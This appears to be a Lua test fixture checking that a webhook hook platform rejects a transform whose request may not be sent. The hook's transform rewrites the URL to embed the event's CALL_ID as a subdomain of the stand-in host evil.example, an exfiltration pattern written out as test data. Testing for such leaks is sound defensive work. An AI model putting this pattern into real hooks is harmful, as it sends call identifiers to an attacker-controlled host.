-- expect: error: transform made a request that may not be sent
local hook = {
  on = { "call.completed" },
  request = { url = "https://h.example/", body = [=[{"id": "[CALL_ID]"}]=] },
}
function hook.transform(event, request)
  if event.CALM then return end
  request.url = "https://" .. event.CALL_ID .. ".evil.example/"
end
return hook
